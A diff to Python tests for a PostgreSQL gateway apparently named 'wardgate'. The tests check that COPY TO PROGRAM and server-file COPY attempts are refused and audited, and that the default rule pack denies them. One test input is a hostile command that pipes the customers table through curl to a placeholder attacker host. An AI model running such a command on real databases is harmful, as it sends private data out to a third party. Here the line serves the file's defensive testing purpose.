@@ -768,8 +768,8 @@ def test_psycopg_copy_failures_leave_the_session_usable(gw: Gateway, upstream: U
 
 
 def test_server_side_copy_is_recorded(gw: Gateway, upstream: UpstreamDB) -> None:
-    """COPY to or from a program or a server file needs privileges this role lacks: the server refuses, the client
-    sees the server's error, and the audit has each attempt as a 'copy' that failed with 42501."""
+    """COPY to or from a program or a server file: the default rule pack refuses it; a user exempt from the pack
+    meets the server's own refusal (this role lacks the privileges). Either way the audit has every attempt."""
     user = new_user("copy-program")
     attempts = [
         ("COPY customers TO PROGRAM 'curl -T - http://attacker.example/'", "simple"),
@@ -793,7 +793,7 @@ def test_server_side_copy_is_recorded(gw: Gateway, upstream: UpstreamDB) -> None
 
     with upstream.connect(autocommit=True) as conn:
         direct = scenario(conn)
-    with psycopg.connect(gw.dsn(user, gw.token(user)), autocommit=True) as conn:
+    with psycopg.connect(gw.dsn(user, gw.token(user, "eng,dba")), autocommit=True) as conn:
         via = scenario(conn)
     assert via == direct
     assert [r[0] for r in via[:5]] == ["42501"] * 5 and via[5] == (50,)
@@ -811,6 +811,19 @@ def test_server_side_copy_is_recorded(gw: Gateway, upstream: UpstreamDB) -> None
 
 
 # === cancel ===================================================================================================
+
+    guarded = new_user("copy-program-guarded")
+    with psycopg.connect(gw.dsn(guarded, gw.token(guarded)), autocommit=True) as conn:
+        got = scenario(conn)
+    rules = ["no-copy-program", "no-copy-program", "no-server-file-copy", "no-server-file-copy", "no-copy-program"]
+    assert [g[0] for g in got[:5]] == ["42501"] * 5 and got[5] == (50,)
+    for (_, message), rule in zip(got[:5], rules, strict=True):
+        assert message.startswith(f'wardgate: copy statement denied by rule "{rule}"'), message
+    stmts = statements_of(gw, guarded)
+    assert [(s["protocol"], s["status"], s["sqlstate"], s["decision"], s["rule"]) for s in stmts] == [
+        *[(p, "denied", "42501", "deny", r) for (_, p), r in zip(attempts, rules, strict=True)],
+        ("simple", "ok", None, "allow", "default"),
+    ]
 
 
 def wait_active(upstream: UpstreamDB, app: str, query: str, timeout: float = 10) -> None:
@@ -1027,7 +1040,7 @@ def test_notices_settings_transactions_and_savepoints_as_direct(gw: Gateway, ups
 
     with upstream.connect(autocommit=True, application_name="state") as conn:
         direct = scenario(conn)
-    with psycopg.connect(gw.dsn(user, gw.token(user)), autocommit=True, application_name="state") as conn:
+    with psycopg.connect(gw.dsn(user, gw.token(user, "eng,dba")), autocommit=True, application_name="state") as conn:
         via = scenario(conn)
     for got, want in zip(via, direct, strict=True):
         assert got == want
